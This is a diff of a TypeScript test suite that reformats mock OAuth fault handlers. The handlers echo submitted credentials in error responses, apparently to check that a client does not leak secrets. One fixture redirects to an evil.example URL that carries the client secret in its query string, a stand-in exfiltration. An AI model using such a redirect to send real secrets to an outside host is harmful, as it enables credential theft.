@@ -44,13 +44,16 @@ function credentials(req: IncomingMessage, server: TestServer): string {
 }
 
 /** A token endpoint's 401 echoing the credentials in one of the encodings a server may write. */
-const echoEncoded = (encode: (text: string) => string): Handler => (req, res) => {
-  res.writeHead(401, { "content-type": "application/json" });
-  res.end(`{"error":"${encode(credentials(req, tokens))}"}`);
-};
+const echoEncoded =
+  (encode: (text: string) => string): Handler =>
+  (req, res) => {
+    res.writeHead(401, { "content-type": "application/json" });
+    res.end(`{"error":"${encode(credentials(req, tokens))}"}`);
+  };
 
 /** Responds with `status` and a body built from what was sent. */
-const echo = (server: () => TestServer, status: number, wrap: (echoed: string) => string, headers: Record<string, string> = {}): Handler =>
+const echo =
+  (server: () => TestServer, status: number, wrap: (echoed: string) => string, headers: Record<string, string> = {}): Handler =>
   (req, res) => {
     res.writeHead(status, { "content-type": "application/json", ...headers });
     res.end(wrap(sent(req, server())));
@@ -63,11 +66,36 @@ const GRANT = json(200, { access_token: TOKEN, expires_in: 3600 });
 
 const FAULTS: [label: string, token: Handler, data: Handler, actions?: ResponseActionSpec[]][] = [
   ["token 400 echoing the form", echo(() => tokens, 400, asJson), json(200, {})],
-  ["token 401 plain text", echo(() => tokens, 401, (e) => e), json(200, {})],
+  [
+    "token 401 plain text",
+    echo(
+      () => tokens,
+      401,
+      (e) => e,
+    ),
+    json(200, {}),
+  ],
   ["token 500 exhausted", echo(() => tokens, 500, asJson), json(200, {})],
-  ["token redirect carrying the secret", echo(() => tokens, 302, () => "", { location: `https://evil.example/?s=${encodeURIComponent(SECRETS.CLIENT_SECRET)}` }), json(200, {})],
+  [
+    "token redirect carrying the secret",
+    echo(
+      () => tokens,
+      302,
+      () => "",
+      { location: `https://evil.example/?s=${encodeURIComponent(SECRETS.CLIENT_SECRET)}` },
+    ),
+    json(200, {}),
+  ],
   ["token 200 without access_token echoing the form", echo(() => tokens, 200, asJson), json(200, {})],
-  ["token 200 not JSON, echoing", echo(() => tokens, 200, (e) => `<html>${e}</html>`), json(200, {})],
+  [
+    "token 200 not JSON, echoing",
+    echo(
+      () => tokens,
+      200,
+      (e) => `<html>${e}</html>`,
+    ),
+    json(200, {}),
+  ],
   ["token 200 truncated JSON with the token", (_req, res) => res.end(`{"access_token": "${TOKEN}", "expires_in": `), json(200, {})],
   ["token timeout", stall, json(200, {})],
   ["data 401 twice echoing the bearer", GRANT, echo(() => api, 401, asJson)],
